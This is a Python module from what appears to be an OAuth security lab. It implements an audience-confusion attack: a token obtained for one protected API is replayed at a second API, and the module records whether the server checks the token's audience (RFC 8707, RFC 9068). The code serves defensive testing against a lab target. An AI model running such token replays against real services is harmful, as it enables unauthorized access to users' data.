"""Attack 9: a token for one API replayed at another (RFC 8707; RFC 9700 2.3).

The client asks for a token for the calendar API alone (`resource=`, RFC 8707 2).
Whoever runs that API, or reads its logs, holds the token, and presents it at the
photos API of the same server. An API that checks the token's audience (the
resource it was issued for: `aud`, RFC 9068 4) refuses it. Lab switch:
`audience_unchecked`.
"""

from __future__ import annotations

from ..server.switches import SWITCHES
from ._steps import code_from, sign_in
from .leaks import _error_of
from .registry import attack_on
from .result import AttackResult, Unsupported
from .scenario import TargetLike, as_target


@attack_on("audience_unchecked")
def audience_replay(target: TargetLike) -> AttackResult:
    """A token issued for one protected resource is presented at another."""
    t = as_target(target)
    listed = t.endpoints().metadata.get("protected_resources")
    if not isinstance(listed, list) or len(listed) < 2:
        raise Unsupported(
            "The server's metadata lists fewer than two protected_resources (RFC 9728 4), so "
            "there is no second API to replay a token at."
        )
    meant_for, replayed_at = str(listed[1]), str(listed[0])
    app = t.register()
    with t.flow(app) as client:
        client.resource = meant_for
        request = client.authorize()
        code_from(sign_in(client.browser, request.url, t.victim), request.url)
        client.receive_redirect()
        tokens = client.exchange_code()
    bearer = {"Authorization": f"Bearer {tokens.access_token}"}
    with t.http() as anyone:
        own = anyone.get(meant_for, headers=bearer)
        replay = anyone.get(replayed_at, headers=bearer)
    steps = [
        f"{t.victim.username}'s client asks for a token with resource={meant_for} (RFC 8707 2)",
        f"the client calls {meant_for} with it: {own.status_code}",
        f"{t.attacker.username}, who runs that API (or reads its logs), presents the same "
        f"token at {replayed_at}: {replay.status_code}",
    ]
    if not own.is_success:
        raise Unsupported(
            f"{meant_for} answered {own.status_code} to the token issued for it, so whether "
            "another API refuses it says nothing about audiences."
        )
    succeeded = replay.is_success
    evidence: dict[str, object] = {
        "the token's own API": own.status_code,
        "the other API": replay.status_code,
    }
    if succeeded:
        what = (
            "The other API took a token issued for a different one: any API that receives "
            "a token can use it everywhere the user's grant reaches."
        )
        reason = f"{replayed_at} answered {replay.status_code} to a token for {meant_for}."
    else:
        said = _error_of(replay)
        evidence["error"] = said
        what = (
            "The other API refused the token: it was issued for one API alone, and each "
            "API checks that it is that one."
        )
        reason = (
            f"{replayed_at} answered {replay.status_code} ({said}) to a token for {meant_for}, "
            f"which its own API took ({own.status_code})."
        )
    return AttackResult(
        "A token for one API replayed at another",
        succeeded,
        what,
        SWITCHES["audience_unchecked"].source,
        "Tokens are audience-bound (resource=, RFC 8707) and each API checks the audience.",
        tuple(steps),
        evidence,
        reason,
    )
